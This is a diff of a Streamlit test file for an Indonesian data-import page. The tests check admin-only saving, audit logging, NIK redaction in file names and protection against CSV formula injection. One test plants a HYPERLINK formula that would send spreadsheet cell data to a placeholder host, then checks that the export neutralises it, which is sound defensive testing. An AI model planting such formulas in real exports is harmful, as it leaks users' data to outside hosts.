@@ -1,37 +1,68 @@
 """AppTest of the Sinkronisasi Data page: upload, report, column correction, commit, history, and the
-Kesenjangan figures that come from the imported list."""
+Kesenjangan figures that come from the imported list; lists are saved only in a real warehouse, by an admin, each
+check and save in the audit log (issue 13)."""
 import datetime as dt
+import functools
+import hashlib
 import io
+import shutil
 from pathlib import Path
 
 import duckdb
 import pytest
-from conftest import open_app
-from messy_lists import GURU_EXPECTED, add_participants, guru_list, write_xlsx
+from conftest import TEST_NIK_KEY, open_app
+from messy_lists import GURU_EXPECTED, add_participants, guru_list, real_warehouse, write_xlsx
 
 from ucj import fmt
+from ucj.accounts import Store, accounts_path
+from ucj.ingest import rosters
 
 DATA_DATE = dt.date(2025, 4, 15)
+# the real warehouse holds all of Indonesia: the list is matched within Labuhanbatu ('Sidomulyo' is then one desa)
+LABUHANBATU_REASONS = {code: n for code, n in GURU_EXPECTED["reasons"].items() if code != "desa_ambigu"}
 
 
-def open_sinkronisasi(demo_copy, monkeypatch, **params) -> tuple[object, Path]:
-    """The page (an AppTest) on the test's copy of the demo warehouse, opened with these address parameters."""
-    return open_app(monkeypatch, demo_copy, "sinkronisasi", **params), demo_copy
+def open_sinkronisasi(db_path, monkeypatch, login=None, **params) -> tuple[object, Path]:
+    """The page (an AppTest) on warehouse db_path, opened with these address parameters (a real one after login)."""
+    return open_app(monkeypatch, db_path, "sinkronisasi", login=login, **params), db_path
+
+
+@functools.cache
+def guru_xlsx() -> bytes:
+    """The guru list as one workbook for the whole run (openpyxl stamps the time in each one it writes)."""
+    buffer = io.BytesIO()
+    write_xlsx(guru_list(), buffer)
+    return buffer.getvalue()
+
+
+def upload_guru(at, region: str):
+    at.selectbox(key="impor_jenis").set_value("guru_honorer")
+    at.selectbox(key="impor_wilayah").set_value(region)
+    at.date_input(key="impor_tanggal").set_value(DATA_DATE)
+    at.file_uploader(key="impor_berkas").upload("guru.xlsx", guru_xlsx()).run()
+    assert not at.exception, at.exception
+    return at
+
+
+@pytest.fixture(scope="module")
+def real_guru_template(real_template, tmp_path_factory):
+    return real_warehouse(real_template, tmp_path_factory.mktemp("real_guru"), guru_list(), DATA_DATE)
 
 
 @pytest.fixture()
-def page(demo_copy, monkeypatch):
-    """The page with the messy guru list uploaded, its participants enrolled in the warehouse."""
-    at, path = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10", periode="2025-04")
-    add_participants(path, guru_list(), DATA_DATE)
-    buffer = io.BytesIO()
-    write_xlsx(guru_list(), buffer)
-    at.selectbox(key="impor_jenis").set_value("guru_honorer")
-    at.selectbox(key="impor_wilayah").set_value("")
-    at.date_input(key="impor_tanggal").set_value(DATA_DATE)
-    at.file_uploader(key="impor_berkas").upload("guru.xlsx", buffer.getvalue()).run()
-    assert not at.exception, at.exception
-    return at, path
+def page(real_guru_template, tmp_path, monkeypatch):
+    """The page on a real warehouse holding the messy guru list's participants, an admin logged in, the list uploaded
+    and matched within Labuhanbatu."""
+    monkeypatch.setenv("UCJ_NIK_KEY", TEST_NIK_KEY)
+    path = tmp_path / "ucj.duckdb"
+    shutil.copy(real_guru_template, path)
+    at, path = open_sinkronisasi(path, monkeypatch, login="admin", wilayah="12.10", periode="2025-04")
+    return upload_guru(at, "12.10"), path
+
+
+def frame_with(at, column: str):
+    """The first table on the page with this column."""
+    return next(d.value for d in at.dataframe if column in d.value.columns)
 
 
 def cards(at):
@@ -42,21 +73,33 @@ def test_opens_labelled_demo_and_explains_itself(demo_copy, monkeypatch):
     at, _ = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10.02")
     assert at.title[0].value == "Sinkronisasi data"
     assert any("Data demo" in c.value for c in at.caption)
-    assert any("unggah berkas" in i.value for i in at.info)
+    assert any("unggah berkas" in i.value and "Di gudang data demo hanya uji coba" in i.value for i in at.info)
     assert at.selectbox(key="impor_wilayah").value == "12.10"  # the regency of the sidebar's kecamatan
     assert any("Belum ada impor" in i.value for i in at.info)
+
+
+def test_the_demo_checks_a_list_but_offers_no_save(demo_copy, monkeypatch):
+    """Issue 13, finding 'real lists are accepted into the demo warehouse, hashed under its public key': the demo's
+    page still shows the check (nothing is stored) and, where the save button was, says a real warehouse is needed."""
+    add_participants(demo_copy, guru_list(), DATA_DATE)
+    at, _ = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10", periode="2025-04")
+    upload_guru(at, "12.10")
+    assert cards(at)["Baru"] == "12"
+    assert [b for b in at.button if b.key == "impor_simpan"] == []
+    assert [t for t in at.text_input if t.key == "impor_oleh"] == []
+    assert rosters.DEMO_REFUSES in [i.value for i in at.info]
 
 
 def test_report_matches_the_expected_counts(page):
     at, _ = page
     assert cards(at) == {
-        "Baris dibaca": "35", "Tidak valid": fmt.number(GURU_EXPECTED["invalid"]),
-        "Ganda di berkas": "2", "Sudah di daftar": "0", "Sudah peserta": "3", "Baru": fmt.number(GURU_EXPECTED["new"])}
+        "Baris dibaca": "35", "Tidak valid": fmt.number(GURU_EXPECTED["invalid"] - 1),
+        "Ganda di berkas": "2", "Sudah di daftar": "0", "Sudah peserta": "3", "Baru": fmt.number(GURU_EXPECTED["new"] + 1)}
     sheet = [s for s in at.selectbox if s.label == "Lembar"][0]
     assert sheet.value == "Data Guru"
-    reasons = at.dataframe[0].value
-    assert dict(zip(reasons["Kode"], reasons["Baris"])) == GURU_EXPECTED["reasons"]
-    rows = at.dataframe[2].value
+    reasons = frame_with(at, "Kode")
+    assert dict(zip(reasons["Kode"], reasons["Baris"])) == LABUHANBATU_REASONS
+    rows = frame_with(at, "NIK")
     assert len(rows) == 35 and not rows["NIK"].str.fullmatch(r"\d{15,17}").any()
     assert "1210********0101" in set(rows["NIK"])
     # saving needs a name for the log
@@ -68,32 +111,77 @@ def test_correcting_a_column_changes_the_report(page):
     desa = [s for s in at.selectbox if s.label == "Desa/Kelurahan"][0]
     assert desa.value == "Desa/Kelurahan"
     desa.set_value("(tidak ada)").run()
-    reasons = at.dataframe[0].value
+    reasons = frame_with(at, "Kode")
     assert dict(zip(reasons["Kode"], reasons["Baris"]))["desa_kosong"] == 35  # the desa is checked on every row, whatever the NIK
     assert cards(at)["Baru"] == "0"
 
 
 def test_commit_then_history_and_kesenjangan(page):
+    """Saved in a real warehouse by an admin; the check and the save are in the audit log (issue 13, finding 'the
+    import check is a lookup oracle ... nothing logged'): the file's hash, kind and rows, no file name."""
     at, path = page
     at.text_input(key="impor_oleh").input("Petugas Dinas").run()
-    assert at.button(key="impor_simpan").label == f"Simpan {GURU_EXPECTED['to_load']} orang ke gudang data"
+    assert at.button(key="impor_simpan").label == "Simpan 15 orang ke gudang data"
     at.button(key="impor_simpan").click().run()
     assert not at.exception
-    assert at.success[0].value.startswith("Disimpan sebagai impor #1: 14 orang masuk daftar Guru honorer")
+    assert at.success[0].value.startswith("Disimpan sebagai impor #2: 15 orang masuk daftar Guru honorer")
     history = at.dataframe[-1].value
-    assert list(history["Oleh"]) == ["Petugas Dinas"] and list(history["Baru"]) == [11]
+    assert list(history["Oleh"]) == ["Petugas Dinas", "penguji"] and list(history["Baru"]) == [12, 4]
     # the page now says the same file would change nothing
-    assert any("sudah diimpor sebagai impor #1" in i.value for i in at.info)
+    assert any("sudah diimpor sebagai impor #2" in i.value for i in at.info)
     con = duckdb.connect(str(path), read_only=False)  # same process and settings as the app's connection
     try:
-        stored = con.execute("select count(*) from anggota_kelompok where impor_id = 1").fetchall()[0][0]
+        stored = con.execute("select count(*) from anggota_kelompok where impor_id = 2").fetchall()[0][0]
     finally:
         con.close()
-    assert stored == 14
+    assert stored == 15
+    sha = hashlib.sha256(guru_xlsx()).hexdigest()
+    log = [(e.action, e.detail, e.rows) for e in Store(accounts_path(path)).log(name="admin") if e.action != "masuk"]
+    # the check before the save counts its 35 rows, the save logs them without counting them again, and the page's
+    # check after it (which shows the file is now imported) counts them again
+    assert log == [("periksa", f"{sha} guru_honorer 35 baris", 35), ("impor", f"{sha} guru_honorer 35 baris", 0),
+                   ("periksa", f"{sha} guru_honorer 35 baris", 35)]
     at.switch_page("app_pages/kesenjangan.py").run()
-    groups = at.dataframe[0].value
+    groups = frame_with(at, "Kelompok")
     guru = groups[groups["Kelompok"] == "Guru honorer"].iloc[0]
-    assert (guru["Dalam daftar"], guru["Belum terlindungi"]) == (4_412 + 14, 3_000 + 11)
+    assert (guru["Dalam daftar"], guru["Belum terlindungi"]) == (15, 12)
+
+
+def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, monkeypatch):
+    """Issue 13, findings 'uploaded file names (which often contain a NIK or a name) are stored and shown in
+    Riwayat' and 'Riwayat's CSV is open to formula injection': a name with a NIK is stored and shown as
+    'daftar_#_budi.xlsx'; a name that is a formula leaves the CSV download as text (a leading apostrophe)."""
+    from streamlit.delta_generator import DeltaGenerator
+
+    at, path = page
+    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik").csv'
+    con = duckdb.connect(str(path), read_only=False)
+    try:
+        con.execute("insert into impor_log select 2, 'guru_honorer', ?, 'ab', 'penguji', timestamp '2025-04-20 10:00',"
+                    " 1, 1, '{}'", [formula])
+    finally:
+        con.close()
+    other = io.BytesIO()  # the same people in another workbook: another file, checked again under its own name
+    write_xlsx(guru_list(), other)
+    at.file_uploader(key="impor_berkas").upload("daftar_1210010101900001_budi.xlsx", other.getvalue()).run()
+    at.text_input(key="impor_oleh").input("Petugas Dinas").run()
+    at.button(key="impor_simpan").click().run()
+    assert not at.exception
+    downloads = {}
+    original = DeltaGenerator.download_button
+
+    def keep(self, label, data, file_name=None, *args, **kwargs):
+        downloads[file_name] = data
+        return original(self, label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(DeltaGenerator, "download_button", keep)
+    at.run()
+    history = at.dataframe[-1].value
+    assert list(history["Berkas"]) == ["daftar_#_budi.xlsx", "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\").csv",
+                                       "peserta_daftar.csv"]
+    text = downloads["riwayat_impor.csv"].decode("utf-8")
+    assert "daftar_#_budi.xlsx" in text and "1210010101900001" not in text
+    assert "\n'=HYPERLINK" not in text and ",\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\"," in text
 
 
 def test_an_unrecognised_nik_header_can_be_pointed_at(demo_copy, monkeypatch):
